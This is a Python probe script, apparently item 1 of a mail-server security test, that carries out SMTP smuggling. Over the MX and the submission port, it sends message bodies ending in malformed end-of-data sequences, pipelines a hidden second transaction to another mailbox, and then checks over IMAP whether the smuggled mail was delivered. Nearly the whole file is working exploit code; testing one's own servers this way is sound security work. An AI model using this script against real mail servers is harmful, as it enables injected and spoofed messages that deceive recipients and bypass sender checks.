#!/usr/bin/env python3
"""Item 1 of the probe: the end of DATA. Args: PASSWORD USER_A RCPT_B
(USER_A a mailbox that may submit, RCPT_B another mailbox of the server)."""
import sys, time
from lib import *

PW, USER, OTHER = sys.argv[1:4]

def attack(label, addr, body, **kw):
    s = SMTP(addr, **kw)
    print("--", label, repr(body))
    print("  MAIL", s.cmd("MAIL FROM:<%s>" % USER))
    print("  RCPT", s.cmd("RCPT TO:<%s>" % USER))
    print("  DATA", s.cmd("DATA"))
    # the smuggled transaction, pipelined after what a lax parser would
    # take for the end of the data
    smuggle = ("MAIL FROM:<%s>\r\nRCPT TO:<%s>\r\nDATA\r\nFrom: %s\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n" % (USER, OTHER, USER))
    s.send(body + smuggle.encode() + b".\r\n")
    s.s.settimeout(5)
    replies = []
    try:
        while True:
            replies.append(s.reply())
    except Exception as e:
        replies.append("<%s>" % type(e).__name__)
    for r in replies:
        print("  <-", r)
    s.close()

for addr, kw, name in ((MX, {}, "MX"), (SUB, {"starttls": True, "user": USER, "password": PW}, "submission")):
    attack(name + " hi CR CR LF . CR LF", addr, b"From: " + USER.encode() + b"\r\nSubject: t1\r\n\r\nhi\r\r\n.\r\n", **kw)
    attack(name + " . CR CR LF . CR LF", addr, b"From: " + USER.encode() + b"\r\nSubject: t2\r\n\r\n.\r\r\n.\r\n", **kw)
    attack(name + " bare LF . LF", addr, b"From: " + USER.encode() + b"\r\nSubject: t3\r\n\r\nhi\n.\n", **kw)
    attack(name + " CR . CR", addr, b"From: " + USER.encode() + b"\r\nSubject: t4\r\n\r\nhi\r.\r", **kw)

# .\rX at a line start keeps its CR
s = SMTP(MX)
s.cmd("MAIL FROM:<x@outside.test>"); s.cmd("RCPT TO:<%s>" % USER); s.cmd("DATA")
s.send(b"Subject: dotcr\r\nMessage-ID: <dotcr@outside.test>\r\n\r\n.\rX\r\n..\r\n.\r\n")
print("-- .\\rX message:", s.reply()); s.close()
time.sleep(1)
m = imap(USER, PW); m.select("INBOX")
for n in m.search(None, 'HEADER Message-ID "<dotcr@outside.test>"')[1][0].split():
    print("  stored body:", repr(m.fetch(n, "(BODY.PEEK[TEXT])")[1][0][1]))
print("  messages with Subject smuggled in", USER, m.search(None, 'SUBJECT "smuggled"'))
for subj in ("t1", "t2", "t3", "t4"):
    for n in m.search(None, 'SUBJECT "%s"' % subj)[1][0].split():
        print("  %s body in %s:" % (subj, USER), repr(m.fetch(n, "(BODY.PEEK[TEXT])")[1][0][1]))
m.logout()
m = imap(OTHER, PW); m.select("INBOX")
print("  messages with Subject smuggled in", OTHER, m.search(None, 'SUBJECT "smuggled"'))
for n in m.search(None, 'SUBJECT "smuggled"')[1][0].split():
    print("   ", repr(m.fetch(n, "(BODY.PEEK[])")[1][0][1][-300:]))
m.logout()
